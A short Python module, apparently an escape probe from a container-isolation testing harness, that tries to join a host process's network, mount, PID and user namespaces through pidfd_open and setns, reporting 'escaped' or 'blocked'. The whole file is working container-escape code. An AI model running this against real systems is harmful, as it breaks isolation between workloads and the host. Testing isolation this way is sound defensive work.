"""Enter the namespaces of a host process.

origin: nsenter; setns with a pidfd since Linux 5.8
why: the wall is left as it was entered
control: needs root
"""


def attack(target):
    pidfd, _ = syscall(target, "pidfd_open", target["host"], 0)
    result, error = syscall(target, "setns", max(pidfd, 0), 0x40000000 | 0x00020000 | 0x20000000)
    if result == 0:
        return escaped("joined the host's namespaces")
    for kind in ("net", "mnt", "user"):
        fd, _ = openat(target, f"/proc/{target['host']}/ns/{kind}", os.O_RDONLY)
        result, error = syscall(target, "setns", max(fd, 0), 0)
        if result == 0:
            return escaped(f"joined the host's {kind} namespace")
    return blocked("setns", error)
